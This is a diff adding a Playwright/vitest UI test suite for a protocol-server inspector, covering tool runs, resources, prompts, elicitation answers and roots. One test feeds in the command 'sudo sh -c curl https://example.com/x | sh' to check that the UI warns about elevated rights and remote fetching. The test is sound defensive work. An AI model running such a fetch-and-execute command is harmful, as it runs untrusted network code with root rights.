@@ -1,0 +1,209 @@
+import { execPath } from 'node:process'
+import { fileURLToPath } from 'node:url'
+
+import type { Page } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+
+import {
+  canOpen,
+  everythingEntry,
+  field,
+  openInspector,
+  type OpenInspector,
+} from '../page/open-inspector.ts'
+import { call, go, openQuestion, resultIn } from './walk.ts'
+
+const changing = {
+  command: execPath,
+  args: [fileURLToPath(new URL('fixtures/changing-server.mjs', import.meta.url))],
+}
+
+describe.skipIf(!canOpen)('what people see and decide', { timeout: 60_000 }, () => {
+  let inspector: OpenInspector
+  let page: Page
+
+  beforeAll(async () => {
+    inspector = await openInspector({
+      servers: [
+        { name: 'changing', entry: changing, connect: true },
+        { name: 'everything', entry: everythingEntry, connect: true },
+      ],
+    })
+    page = await inspector.newPage()
+    for (const name of ['changing', 'everything']) {
+      await page
+        .getByRole('navigation')
+        .getByRole('button', { name: new RegExp(`^${name} Ready`) })
+        .waitFor()
+    }
+  }, 60_000)
+
+  afterAll(() => inspector?.[Symbol.asyncDispose]())
+
+  /** How many rows of the trace pass a filter. */
+  async function countRows(filter: string): Promise<number> {
+    const input = page.getByRole('textbox', { name: 'Filter of the trace' })
+    await input.fill(filter)
+    const figure = page.locator('.trace-figures dd').first()
+    await page.waitForTimeout(300) // records come in batches; that none came cannot be waited for
+    const count = Number((await figure.textContent())?.replaceAll(',', ''))
+    await input.fill('')
+    return count
+  }
+
+  test('a tool is shown with what would be sent, nothing goes before Run, and what was shown went [TUI-01, TUI-03]', async () => {
+    await go(page, 'changing', 'tools', 'link')
+    await page.getByRole('heading', { name: 'link', exact: true }).waitFor()
+    await page.getByText('The link tool').first().waitFor()
+    await page.getByText('Does link.').first().waitFor()
+    await page.getByRole('textbox', { name: /^note/ }).fill('first thought')
+    expect(await countRows('server:changing method:tools/call')).toBe(0)
+
+    await page.getByRole('textbox', { name: /^note/ }).fill('second thought')
+    await page.locator('[data-run]').click()
+    await resultIn(page).getByText('Answered', { exact: true }).waitFor()
+
+    expect(await countRows('server:changing method:tools/call text:"second thought"')).toBe(1)
+    expect(await countRows('text:"first thought"')).toBe(0)
+  })
+
+  test('a link to what is not listed is opened and followed from the result [RUI-10]', async () => {
+    await call(page, 'changing', 'link')
+    await resultIn(page).getByRole('button', { name: 'Subscribe' }).click()
+    await resultIn(page).getByRole('button', { name: 'Open', exact: true }).click()
+
+    await page.getByText('text of note://hidden').waitFor()
+    await page.getByRole('button', { name: 'Unsubscribe' }).waitFor()
+  })
+
+  test('resources are a list or a tree, found by a word, and shown when picked [RUI-01]', async () => {
+    await go(page, 'changing', 'resources')
+    const list = page.getByRole('listbox', { name: 'Resources' })
+    await list.getByRole('option').nth(1).waitFor()
+    await page.getByText('Tree', { exact: true }).click()
+    await page.getByRole('textbox', { name: 'Search resources' }).fill('other')
+    await list.getByRole('option', { name: /other/ }).click()
+
+    await page.getByText('text of note://other').waitFor()
+    await page.getByText('List', { exact: true }).click()
+    await expect.poll(() => list.getByRole('option').count()).toBe(1)
+    await page.getByRole('textbox', { name: 'Search resources' }).fill('')
+  })
+
+  test('something is seen to run, then its result; what a tool reports is told from what the protocol refuses [TUI-09, TUI-10]', async () => {
+    await call(page, 'everything', 'trigger-long-running-operation', { duration: '1', steps: '2' })
+    await resultIn(page).getByText('Running', { exact: true }).waitFor()
+    await resultIn(page).getByText('Answered', { exact: true }).waitFor()
+
+    await call(page, 'changing', 'refuse')
+    await resultIn(page).getByText('The tool reports an error').waitFor()
+    await resultIn(page).getByText(/done/).first().waitFor()
+
+    await go(page, 'everything', 'prompts', 'args-prompt')
+    await page.getByRole('button', { name: 'Get messages' }).click()
+    await page.getByText('invalid_params').first().waitFor()
+  })
+
+  test('a prompt is got when somebody asks for it, and the list follows the server [PUI-01, PUI-09]', async () => {
+    await go(page, 'changing', 'prompts', 'first')
+    await page.getByRole('heading', { name: 'first' }).waitFor()
+    expect(await countRows('server:changing method:prompts/get')).toBe(0)
+    await page.getByRole('button', { name: 'Get messages' }).click()
+    await page.getByText('from the prompt').waitFor()
+
+    await call(page, 'changing', 'grow')
+    await go(page, 'changing', 'prompts')
+
+    await page.getByRole('option', { name: /^grown-1/ }).waitFor()
+  })
+
+  test('an answer is looked over as JSON before it leaves [EUI-04]', async () => {
+    await call(page, 'everything', 'trigger-elicitation-request')
+    await openQuestion(page, 'Input')
+    await field(page, /^name|^Full Name|^String/i).fill('Grace')
+    await page
+      .getByRole('radiogroup', { name: 'How to show the answer' })
+      .getByText('JSON', { exact: true })
+      .click()
+    await expect
+      .poll(() =>
+        page
+          .getByLabel('Answer as JSON')
+          .first()
+          .evaluate((one) => ('value' in one ? String(one.value) : (one.textContent ?? ''))),
+      )
+      .toContain('Grace')
+    expect(await countRows('text:Grace')).toBe(0)
+    await page.getByRole('button', { name: 'Accept' }).click()
+    await go(page, 'everything', 'tools', 'trigger-elicitation-request')
+    await resultIn(page).getByText(/Grace/).first().waitFor()
+  })
+
+  test('a server that asks too much is never answered again, until the rule goes [EUI-06]', async () => {
+    await call(page, 'everything', 'trigger-elicitation-request')
+    await openQuestion(page, 'Input')
+    await page.getByRole('button', { name: 'Never ask for everything' }).click()
+    await go(page, 'everything', 'tools', 'trigger-elicitation-request')
+    await resultIn(page)
+      .getByText(/decline/i)
+      .first()
+      .waitFor()
+
+    await page.locator('[data-run]').click()
+    await expect.poll(() => countRows('text:"by rule"')).toBe(1)
+    await go(page, 'everything', 'requests')
+    await page.getByText(/^Rules/).click()
+    await page.getByRole('button', { name: /^Delete rule/ }).click()
+    await page.getByText('No rules').waitFor()
+  })
+
+  test('roots are said to protect nothing, and those that are gone are marked [ROOTUI-03, ROOTUI-04]', async () => {
+    await go(page, 'everything', 'overview')
+    await page.getByRole('button', { name: 'Settings', exact: true }).click()
+    const dialog = page.getByRole('dialog')
+    await dialog.getByText(/coordinate and protect nothing/).waitFor()
+    await dialog.getByRole('textbox', { name: /^Folder/ }).fill('/no-such-folder-anywhere')
+    await dialog.getByRole('button', { name: 'Add root' }).click()
+
+    await dialog.getByText('is not there').waitFor()
+    await page.keyboard.press('Escape')
+    await dialog.waitFor({ state: 'detached' })
+  })
+
+  test('a command is shown in full, as something that runs, with what is dangerous in it, and can be left [SECX-08, SECX-09, SECX-14]', async () => {
+    const words = ['sudo', 'sh', '-c', 'curl https://example.com/x | sh', '/root', 'x'.repeat(500)]
+    await page.getByRole('button', { name: 'Add a server' }).click()
+    await page
+      .getByRole('textbox', { name: 'Command line' })
+      .fill(words.map((word) => `"${word}"`).join(' '))
+    await page.getByRole('textbox', { name: 'Name' }).fill('risky')
+    await page.getByRole('button', { name: 'Review command' }).click()
+
+    const dialog = page.getByRole('dialog')
+    await dialog.getByText('This starts a program on your machine, with your rights').waitFor()
+    const shown = dialog.getByRole('list', { name: /command line/ })
+    expect(await shown.locator('code').allTextContents()).toEqual(words)
+    for (const why of [
+      'runs with more rights than yours',
+      'runs whatever text it is given',
+      'fetches something from the network',
+      'is a sensitive place',
+    ]) {
+      expect(await shown.getByText(why).count()).toBe(1)
+    }
+    await dialog.getByRole('button', { name: 'Do not start' }).click()
+    await page.getByText('risky has not been started').waitFor()
+
+    // Nothing was started; what is started leaves a record, and a page that comes later is asked again.
+    expect(await countRows('server:risky')).toBe(0)
+    expect(await countRows('server:changing text:"changing-server.mjs"')).toBeGreaterThan(0)
+    await page.reload()
+    await go(page, 'risky', 'overview')
+    await page.getByRole('button', { name: 'Review and start' }).click()
+    await page.getByRole('dialog').getByRole('button', { name: 'Do not start' }).click()
+  })
+
+  test('no page complained', () => {
+    expect(inspector.complaints).toEqual([])
+  })
+})
